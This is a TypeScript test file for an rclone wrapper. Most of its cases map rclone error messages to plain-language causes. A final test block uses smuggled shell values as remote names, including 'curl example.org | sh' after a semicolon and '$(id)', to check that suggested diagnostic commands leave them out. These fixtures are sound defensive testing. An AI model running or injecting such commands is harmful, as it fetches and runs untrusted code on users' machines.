import assert from 'node:assert/strict';
import { describeStoreFailure, findStoreCause, foreignAnswerCause } from '../../../src/core/util/remote.ts';

/** The beginning of an error of S3 from rclone 1.75. */
const said = 'operation error S3: PutObject, https response error';
const skewed = "this machine's clock differs from that of its server; correct the wrong one";
/** A line that rclone 1.75 writes whenever it connects to an SFTP server without known host keys. */
const notice =
  'NOTICE: sftp: No host key validation is being performed. Set known_hosts_file (to "none" to silence this notice) or use --sftp-pin-host-key to enable it. See: https://rclone.org/sftp/#host-key-validation';

const rejected = 'its server rejects the credentials; change them with "rclone config"';
const archived = 'it is archived and must first be restored in the store';
const changedKey =
  'the host key of its server has changed, or known_hosts lacks its key of the type that rclone uses; ask its operators, then add it with "ssh-keyscan"';
const untrusted =
  "the certificate of its server isn't trusted; set RCLONE_CA_CERT to the file with that of its authority";
const otherName = "its server's certificate is for another name; check its address";
const proxy = 'the proxy refuses the connection; check the variables HTTPS_PROXY and HTTP_PROXY';
const unavailable = 'its server is temporarily unavailable';

describe('The cause of a failure of a store (D62)', () => {
  for (const [output, cause] of [
    ['NoSuchKey: not found, status code: 404, path f401/x403-507.bin', undefined],
    ['dial tcp: lookup s3.example.org on 10.0.0.2:53: socket: too many open files', 'too many files are open'],
    ['Unknown: status code: 401, request id: 1', rejected],
    ['couldn’t list: 401 Unauthorized', rejected],
    ['Forbidden: Forbidden, status code: 403', 'its server denies access'],
    ['update mkParentDir failed: 507 Insufficient Storage', 'it is full'],
    ['update failed: 413 Request Entity Too Large', "the server doesn't accept files of this size"],
    ['copy failed: 413 Payload Too Large', "the server doesn't accept files of this size"],
    ['EntityTooLarge: Your upload is too large, status code: 400', "the server doesn't accept files of this size"],
    ["googleapi: Error 403: The user's Drive storage quota has been exceeded., storageQuotaExceeded", 'it is full'],
    [
      'open file failed: googleapi: Error 403: The download quota for this file has been exceeded., downloadQuotaExceeded',
      'its server is limiting the request rate',
    ],
    [
      "Error 403: Quota exceeded for quota metric 'Queries' and limit 'Queries per minute'",
      'its server is limiting the request rate',
    ],
    [
      'googleapi: Error 403: User rate limit exceeded., userRateLimitExceeded',
      'its server is limiting the request rate',
    ],
    ['SlowDown: Please reduce your request rate. status code: 503', 'its server is limiting the request rate'],
    [`${said} StatusCode: 401, RequestID: , HostID: , api error Page: Page`, rejected],
    [`${said} StatusCode: 403, RequestID: , HostID: , api error Page: Page`, 'its server denies access'],
    [
      `${said} StatusCode: 413, RequestID: , HostID: , api error Page: Page`,
      "the server doesn't accept files of this size",
    ],
    [`${said} StatusCode: 429, RequestID: , HostID: , api error Page: Page`, 'its server is limiting the request rate'],
    [`${said} StatusCode: 507, RequestID: , HostID: , api error Page: Page`, 'it is full'],
    ['api error StorageFull: Storage full', 'it is full'],
    [`${notice}\nCRITICAL: couldn't connect SSH: ssh: handshake failed: ssh: unable to authenticate`, rejected],
    [`${notice}\nERROR : error listing: directory not found`, "its folder or bucket doesn't exist"],
    [
      'ssh: handshake failed: knownhosts: key is unknown',
      "the host key of its server isn't known; connect once with ssh",
    ],
    ['ssh: handshake failed: knownhosts: key mismatch', changedKey],
    [
      'ssh: handshake failed: knownhosts: key is revoked',
      'known_hosts revokes the host key of its server, or has a line that rclone rejects',
    ],
    ['api error: blob in archive tier, you need to set tier to hot or cool first', archived],
    ['ssh: handshake failed: host key mismatch: got SHA256:x', changedKey],
    ['tls: failed to verify certificate: x509: certificate signed by unknown authority', untrusted],
    [
      'x509: certificate has expired or is not yet valid: current time 2026-11-30T00:31:49Z is after 2021-01-01T00:00:00Z',
      "its server's certificate has expired, unless this machine's clock is wrong; its operators can renew it",
    ],
    ['x509: certificate is valid for elsewhere.test, not localhost', otherName],
    ["x509: cannot validate certificate for 127.0.0.1 because it doesn't contain any IP SANs", otherName],
    [
      'http: server gave HTTP response to HTTPS client',
      "its server doesn't support https:// at this address; check the port",
    ],
    ['Propfind "https://x.org/": proxyconnect tcp: dial tcp 127.0.0.1:1: connect: connection refused', proxy],
    ['Propfind "https://x.org/": Forbidden', proxy],
    ["couldn't list files: no: 407 Proxy Authentication Required", proxy],
    ["couldn't list files: busy: 503 Service Unavailable", unavailable],
    ['api error ServiceUnavailable: Service Unavailable', unavailable],
    ["couldn't list files: XML syntax error on line 1: unexpected EOF", foreignAnswerCause],
    [`${said} StatusCode: 200, deserialization failed, failed to decode response body`, foreignAnswerCause],
    [`${said} StatusCode: 507, error while deserializing xml error response`, 'it is full'],
    ['expected element type <Error> but have <html>', foreignAnswerCause],
    ['xml: encoding "ISO-8859-1" declared but Decoder.CharsetReader is nil', foreignAnswerCause],
    ["couldn't list files: EOF", foreignAnswerCause],
    ['Propfind "https://x.org/": EOF', 'the connection was lost'],
    [
      'CRITICAL: Failed to create file system for "az:": didn\'t find backend called "azureblob"',
      'this rclone was built without its kind of store; install rclone from https://rclone.org/install',
    ],
    [
      'operation error S3: PutObject, failed to compute payload hash: request stream is not seekable',
      'uploads to its http:// address need "use_unsigned_payload = true" in the rclone configuration',
    ],
    ['lstat /data/nnn: file name too long', 'its name is too long for the store, or not allowed there'],
    ['KeyTooLongError: Your key is too long', 'its name is too long for the store, or not allowed there'],
    ['sftp: "Bad message" (SSH_FX_BAD_MESSAGE)', 'its name is too long for the store, or not allowed there'],
    [
      "NewFs: couldn't initialise SFTP: error receiving version packet from server: packet too long",
      "its login prints text, which SFTP doesn't permit: remove it from files such as .bashrc",
    ],
    [
      'read metadata failed: <h1>415 Unsupported Media Type</h1>: 415 Unsupported Media Type',
      'its server needs "headers = Content-Type,application/xml" in the rclone configuration',
    ],
    [
      'corrupted on transfer: md5 hashes differ src(S3 bucket lab) "fedc" vs dst(S3 bucket lab) "9929"',
      'the hashes in the store differ',
    ],
    ['RequestTimeTooSkewed: The difference is too large. status code: 403', skewed],
    [`Probable clock skew error: ${said} StatusCode: 403, api error RequestTimeTooSkewed: The difference`, skewed],
    ['HTTP error 429 (429 Too Many Requests) returned body: ""', 'its server is limiting the request rate'],
  ] as const) {
    it(`is ${cause ?? 'unknown'} for: ${output}`, () => {
      assert.equal(findStoreCause(output), cause);
    });
  }
});

describe('The failure of a store for an unknown cause', () => {
  for (const [remote, command] of [
    ['lab:bucket/data; curl example.org | sh #', '"rclone lsd lab:" in a terminal, with the path after the colon,'],
    ['lab:$(id)', '"rclone lsd lab:" in a terminal, with the path after the colon,'],
    ['my lab:bucket', `"rclone lsd 'my lab:'" in a terminal, with the path after the colon,`],
    ['', '"rclone listremotes" in a terminal'],
  ] as const) {
    it(`names a command with only the remote of: ${remote}`, () => {
      assert.equal(describeStoreFailure('odd', remote), `rclone failed; ${command} shows why`);
    });
  }
});
